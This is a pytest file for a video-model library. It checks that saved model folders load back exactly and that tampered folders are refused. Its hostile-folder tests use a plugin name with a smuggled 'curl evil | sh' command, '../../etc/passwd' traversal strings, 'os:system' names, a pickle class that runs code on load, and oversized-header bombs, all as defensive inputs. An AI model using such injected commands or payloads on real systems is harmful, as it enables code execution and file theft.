"""The model folder: what is saved comes back exactly, and nothing in a folder from a stranger is trusted."""

from __future__ import annotations

import json
import pickle
import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file
from torch import Tensor, nn

from zoo.artefact import load_model, save_model
from zoo.artefact.empty import fill
from zoo.artefact.file_names import MANIFEST, WEIGHTS
from zoo.artefact.manifest import LARGEST
from zoo.artefact.weights import read_weights, sha256_of, write_weights
from zoo.build import build
from zoo_registry.catalog import catalog
from zoo_registry.errors import ArtefactError, MissingExtra, UnknownName

LABELS = ("left", "right", "up")
TASK = {"name": "tasks/classification", "params": {}}


def built(name: str, labels: tuple[str, ...] = LABELS) -> nn.Module:
    entry: Any = catalog().resolve("model", name).entry
    provided = {"num_classes": len(labels), "labels": labels, "clip": entry.clip, "inputs": entry.inputs}
    torch.manual_seed(7)
    module: nn.Module = build(catalog().resolve("model", name), {}, provided)
    return module.eval()


def save(folder: Path, module: nn.Module, name: str = "basic/cnn3d", **changes: Any) -> Path:
    clip = catalog().resolve("model", name).entry.clip  # type: ignore[attr-defined]
    described: dict[str, Any] = {"model": name, "params": {}, "clip": clip, "labels": LABELS, "task": TASK}
    save_model(folder, module, **(described | changes))
    return folder


def example(name: str, frames: int | None = None) -> Tensor:
    clip = catalog().resolve("model", name).entry.clip  # type: ignore[attr-defined]
    return torch.randn(1, 3, frames or clip.frames, *clip.height_width, generator=torch.Generator().manual_seed(1))


def rewrite(folder: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change model.json as a stranger could."""
    data = json.loads((folder / MANIFEST).read_text())
    change(data)
    (folder / MANIFEST).write_text(json.dumps(data))


def swap_weights(folder: Path, content: bytes) -> None:
    """Put other weights in, with the checksum that goes with them."""
    (folder / WEIGHTS).write_bytes(content)
    digest = sha256_of(folder / WEIGHTS)
    rewrite(folder, lambda data: data["weights"].update(sha256=digest, bytes=len(content)))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return save(tmp_path / "model", built("basic/cnn3d"))


# ---------------------------------------------------------------------------------------------------- round trip


@pytest.mark.parametrize(
    "name",
    [
        "basic/cnn2d",
        "basic/cnn3d",
        "timm/levit_128s",  # keeps its bias indices outside the state dict
    ],
)
def test_a_loaded_model_gives_the_same_outputs(name: str, tmp_path: Path) -> None:
    module = built(name)
    loaded = load_model(save(tmp_path / "model", module, name))
    clip_bcthw = example(name, frames=2 if name.startswith("timm/") else None)
    with torch.inference_mode():
        assert torch.equal(loaded(clip_bcthw), module(clip_bcthw))
    assert not loaded.training
    assert not any(tensor.is_meta for tensor in [*loaded.parameters(), *loaded.buffers()])


def test_loading_draws_no_random_numbers(tmp_path: Path) -> None:
    folder = save(tmp_path / "model", built("timm/levit_128s"), "timm/levit_128s")
    before = torch.get_rng_state()
    load_model(folder)
    assert torch.equal(torch.get_rng_state(), before)


def test_a_loaded_model_no_longer_needs_its_file(folder: Path) -> None:
    module, loaded = built("basic/cnn3d"), load_model(folder)
    with (folder / WEIGHTS).open("r+b") as file:
        file.truncate(100)
    assert all(torch.equal(loaded.network.state_dict()[key], value) for key, value in module.state_dict().items())


def test_what_was_said_about_the_model_comes_back(tmp_path: Path) -> None:
    metrics = {"val/accuracy": 0.75, "val/loss": float("nan")}
    folder = save(tmp_path / "model", built("basic/cnn3d"), licence="mit", metrics=metrics)
    loaded = load_model(folder)
    assert (loaded.name, loaded.labels, loaded.licence) == ("basic/cnn3d", LABELS, "mit")
    assert loaded.clip == catalog().resolve("model", "basic/cnn3d").entry.clip  # type: ignore[attr-defined]
    assert loaded.task == TASK
    assert loaded.metrics == {"val/accuracy": 0.75, "val/loss": None}
    assert json.loads((folder / "labels.json").read_text()) == list(LABELS)


def test_the_repr_says_what_matters(folder: Path) -> None:
    text = repr(load_model(folder))
    for part in ("basic/cnn3d", "3 labels (left, right, up)", "licence unknown", str(folder)):
        assert part in text
    assert "\n" not in text


def test_non_contiguous_weights_come_back_with_equal_values(tmp_path: Path) -> None:
    module = built("basic/cnn3d").to(memory_format=torch.channels_last_3d)
    clip_bcthw = example("basic/cnn3d")
    with torch.inference_mode():
        torch.testing.assert_close(load_model(save(tmp_path / "model", module))(clip_bcthw), module(clip_bcthw))


class Tied(nn.Module):
    """One matrix under two names."""

    def __init__(self) -> None:
        super().__init__()
        self.encode, self.decode = nn.Linear(4, 4), nn.Linear(4, 4)
        self.decode.weight = self.encode.weight


def test_tied_parameters_are_tied_again(tmp_path: Path) -> None:
    module = Tied()
    write_weights(module, tmp_path / WEIGHTS)
    with torch.device("meta"):
        fresh = Tied()
    fill(fresh, read_weights(tmp_path / WEIGHTS))
    assert fresh.decode.weight is fresh.encode.weight
    assert torch.equal(fresh.encode.weight, module.encode.weight)


def test_tied_parameters_that_differ_in_the_file_are_refused(tmp_path: Path) -> None:
    state = {key: value.clone() for key, value in Tied().state_dict().items()}
    with pytest.raises(ArtefactError, match="one parameter of the model, but differ in the file"):
        fill(Tied(), state | {"decode.weight": torch.zeros(4, 4)})


class Calibration:
    """As much of a compression's context as strategies use."""

    device = torch.device("cpu")
    example = (torch.zeros(1, 3, 16, 32, 32),)

    def calibration(self, batches: int) -> Iterator[tuple[Tensor, ...]]:
        for seed in range(batches):
            yield (torch.randn(4, 3, 16, 32, 32, generator=torch.Generator().manual_seed(seed)),)

    def evaluate(self, model: nn.Module) -> dict[str, float]:
        return {}


PRUNE, CAST, QUANTIZE = ("prune_magnitude", {"amount": 0.5}), ("cast_bf16", {}), ("quantize_int8", {})


@pytest.mark.parametrize("strategies", [[PRUNE], [CAST], [PRUNE, QUANTIZE]])
def test_a_compressed_model_comes_back_as_it_was(strategies: list[tuple[str, Any]], tmp_path: Path) -> None:
    if QUANTIZE in strategies:
        pytest.importorskip("pytorch_quantization", reason="needs the extra videozoo[quantization]")
    module, structure = built("basic/cnn3d"), []
    for name, params in strategies:
        listed = catalog().resolve("compression", name)
        module, record = build(listed, params)(module, Calibration())
        structure.append({"strategy": listed.name, "version": listed.entry.version, "record": record})  # type: ignore[attr-defined]
    loaded = load_model(save(tmp_path / "model", module, structure=structure))
    assert list(loaded.structure) == structure
    assert {key: value.dtype for key, value in loaded.network.state_dict().items()} == {
        key: value.dtype for key, value in module.state_dict().items()
    }
    with torch.inference_mode():
        assert torch.equal(loaded(example("basic/cnn3d")), module.eval()(example("basic/cnn3d")))


def test_a_step_of_structure_that_nobody_provides_is_refused(folder: Path) -> None:
    step = {"strategy": "elsewhere/shrink", "version": 1, "record": {}}
    rewrite(folder, lambda data: data.update(structure=[step]))
    with pytest.raises(ArtefactError, match="elsewhere/shrink"):
        load_model(folder)


# ---------------------------------------------------------------------------------------------------- writing


def test_saving_replaces_a_model_as_a_whole(folder: Path) -> None:
    (folder / "stale.txt").write_text("from before")
    save(folder, built("basic/cnn3d"), licence="mit")
    assert load_model(folder).licence == "mit"
    assert sorted(path.name for path in folder.iterdir()) == ["labels.json", "model.json", "model.safetensors"]


def test_a_save_that_fails_leaves_the_old_model_and_nothing_else(folder: Path) -> None:
    broken = built("basic/cnn3d")
    next(broken.children()).register_parameter("empty", nn.Parameter(torch.empty(2, device="meta")))
    with pytest.raises(ArtefactError, match="has no values yet"):
        save(folder, broken)
    assert load_model(folder).name == "basic/cnn3d"
    assert [path.name for path in folder.parent.iterdir()] == [folder.name]


def test_a_folder_with_other_things_is_not_replaced(tmp_path: Path) -> None:
    (tmp_path / "holiday.jpg").write_bytes(b"...")
    with pytest.raises(ArtefactError, match="holds other things than a model"):
        save(tmp_path, built("basic/cnn3d"))
    assert [path.name for path in tmp_path.iterdir()] == ["holiday.jpg"]


def test_a_disk_that_is_full_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: Any, **__: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("safetensors.torch.save_file", full)
    with pytest.raises(ArtefactError, match=r"cannot write .*: No space left on device"):
        save(tmp_path / "model", built("basic/cnn3d"))
    assert list(tmp_path.iterdir()) == []


def test_labels_that_do_not_match_the_classes_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ArtefactError, match="3 labels, but num_classes is 5"):
        save(tmp_path / "model", built("basic/cnn3d"), num_classes=5)
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------------------- other models


def test_weights_of_another_model_are_refused_with_both_shapes(tmp_path: Path) -> None:
    folder = save(tmp_path / "model", built("basic/cnn3d", ("one", "two")))
    rewrite(folder, lambda data: data.update(labels=list(LABELS), num_classes=3))
    with pytest.raises(ArtefactError) as caught:
        load_model(folder)
    text = str(caught.value)
    assert "the weights do not fit basic/cnn3d: 2 of their keys differ" in text
    assert "(2, 128) in the file, (3, 128) in the model" in text


def test_many_differing_keys_are_counted_and_five_are_named(tmp_path: Path) -> None:
    folder = save(tmp_path / "model", built("basic/cnn2d"), "basic/cnn2d")
    rewrite(folder, lambda data: data.update(model="basic/cnn3d"))
    with pytest.raises(ArtefactError) as caught:
        load_model(folder)
    assert len(caught.value.problems) == 7
    assert "more" in caught.value.problems[-1].message


def test_a_plugin_that_is_absent_is_named_with_its_pip_line(folder: Path) -> None:
    absent = {"distribution": "zoo-elsewhere", "version": "1.2"}
    rewrite(folder, lambda data: data.update(model="elsewhere/tiny", plugins={"elsewhere": absent}))
    with pytest.raises(MissingExtra, match=r"zoo-elsewhere 1\.2") as caught:
        load_model(folder)
    assert caught.value.problems[0].hint == "pip install zoo-elsewhere"


def test_a_compression_plugin_that_is_absent_is_named_too(folder: Path) -> None:
    step = {"strategy": "elsewhere/shrink", "version": 1, "record": {}}
    absent = {"distribution": "zoo-elsewhere", "version": "1.2"}
    rewrite(folder, lambda data: data.update(structure=[step], plugins={"elsewhere": absent}))
    with pytest.raises(MissingExtra, match="elsewhere/shrink comes from the plugin 'elsewhere'"):
        load_model(folder)


def test_a_pip_line_is_not_taken_from_a_hostile_name(folder: Path) -> None:
    hostile = {"distribution": "x; curl evil | sh", "version": "1"}
    rewrite(folder, lambda data: data.update(model="elsewhere/tiny", plugins={"elsewhere": hostile}))
    with pytest.raises(UnknownName) as caught:
        load_model(folder)
    assert "curl" not in str(caught.value)


def test_a_newer_format_says_to_upgrade(folder: Path) -> None:
    rewrite(folder, lambda data: data.update(format=2))
    with pytest.raises(ArtefactError, match="format 2, this videozoo reads up to 1") as caught:
        load_model(folder)
    assert caught.value.problems[0].hint == "pip install --upgrade videozoo"


# ---------------------------------------------------------------------------------------------------- hostile folders


def test_one_flipped_bit_is_noticed(folder: Path) -> None:
    content = bytearray((folder / WEIGHTS).read_bytes())
    content[-1] ^= 1
    (folder / WEIGHTS).write_bytes(content)
    with pytest.raises(ArtefactError, match="not those that were saved"):
        load_model(folder)


EXPLODED: list[str] = []


class Bomb:
    """Runs when it is unpickled."""

    def __reduce__(self) -> tuple[Any, ...]:
        return EXPLODED.append, ("boom",)


@pytest.mark.parametrize("protocol", [2, 4])
def test_a_pickle_dressed_as_safetensors_is_not_opened(protocol: int, folder: Path) -> None:
    swap_weights(folder, pickle.dumps(Bomb(), protocol=protocol))
    with pytest.raises(ArtefactError, match="is a pickle"):
        load_model(folder)
    assert EXPLODED == []


def test_a_torch_file_dressed_as_safetensors_is_not_opened(folder: Path, tmp_path: Path) -> None:
    torch.save({"weight": torch.zeros(2)}, tmp_path / "weights.pth")
    swap_weights(folder, (tmp_path / "weights.pth").read_bytes())
    with pytest.raises(ArtefactError, match="is a pickle"):
        load_model(folder)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(struct.pack("<Q", 2**40) + b"{}", id="a header of 1 TiB"),
        pytest.param(
            (lambda head: struct.pack("<Q", len(head)) + head)(
                json.dumps({"w": {"dtype": "F32", "shape": [2**38], "data_offsets": [0, 2**40]}}).encode()
            ),
            id="a tensor of 1 TiB",
        ),
        pytest.param(b"", id="empty"),
        pytest.param(b"not weights at all", id="text"),
    ],
)
def test_a_damaged_or_lying_header_is_refused(content: bytes, folder: Path) -> None:
    swap_weights(folder, content)
    with pytest.raises(ArtefactError, match="not a safetensors file"):
        load_model(folder)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"weights": {"sha256": "../../etc/passwd", "bytes": 1}}, "weights.sha256"),
        ({"builder": "os:system"}, "builder is not a key of model.json"),
        ({"labels": "left"}, "labels"),
        ({"clip": {"frames": 10**9, "size": 8}}, "frames must be a whole number from 1 to"),
        ({"clip": {"frames": 4, "size": 10**6}}, "size must be a whole number from 1 to"),
        ({"clip": {"frames": 4, "size": 8, "std": [0, 0, 0]}}, "std must be numbers from"),
        ({"num_classes": -1}, "num_classes"),
        ({"structure": [{"strategy": "x"}]}, "structure.0.version is missing"),
    ],
)
def test_a_manifest_that_is_not_as_it_should_be_is_refused(change: dict[str, Any], words: str, folder: Path) -> None:
    rewrite(folder, lambda data: data.update(change))
    with pytest.raises(ArtefactError) as caught:
        load_model(folder)
    assert words in str(caught.value)
    assert str(folder / MANIFEST) in str(caught.value)


def test_all_problems_of_a_manifest_are_said_at_once(folder: Path) -> None:
    rewrite(folder, lambda data: data.update(labels="left", inputs=3, licence=4))
    with pytest.raises(ArtefactError) as caught:
        load_model(folder)
    assert len(caught.value.problems) == 3


@pytest.mark.parametrize("name", ["../../etc/passwd", "os:system", "basic/cnn3d;x", ""])
def test_a_model_name_is_only_ever_a_name(name: str, folder: Path) -> None:
    rewrite(folder, lambda data: data.update(model=name))
    with pytest.raises(Exception, match="is not a name") as caught:
        load_model(folder)
    assert caught.type.__name__ == "NameProblem"


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"{" * 100_000, "not JSON"),
        (b"[1, 2]", "not a JSON object"),
        (b"\xff\xfe", "not JSON"),
        (b" " * (LARGEST + 1), "longer than 16 MiB"),
    ],
)
def test_a_file_that_is_no_manifest_is_refused(content: bytes, words: str, folder: Path) -> None:
    (folder / MANIFEST).write_bytes(content)
    with pytest.raises(ArtefactError, match=words):
        load_model(folder)


def test_a_link_to_a_device_is_not_read(folder: Path) -> None:
    (folder / WEIGHTS).unlink()
    (folder / WEIGHTS).symlink_to("/dev/zero")
    with pytest.raises(ArtefactError, match="the weights are missing"):
        load_model(folder)


def test_a_folder_without_a_model_says_so(tmp_path: Path) -> None:
    with pytest.raises(ArtefactError, match=r"it has no model\.json"):
        load_model(tmp_path)


def test_the_weights_file_is_plain_safetensors(folder: Path) -> None:
    state = load_file(folder / WEIGHTS)
    assert state.keys() == built("basic/cnn3d").state_dict().keys()


def test_other_types_than_the_model_has_are_refused(folder: Path, tmp_path: Path) -> None:
    state = {key: value.long() if key.endswith("bias") else value for key, value in load_file(folder / WEIGHTS).items()}
    save_file(state, tmp_path / "changed")
    swap_weights(folder, (tmp_path / "changed").read_bytes())
    with pytest.raises(ArtefactError, match=r"torch\.int64 in the file, torch\.float32 in the model"):
        load_model(folder)
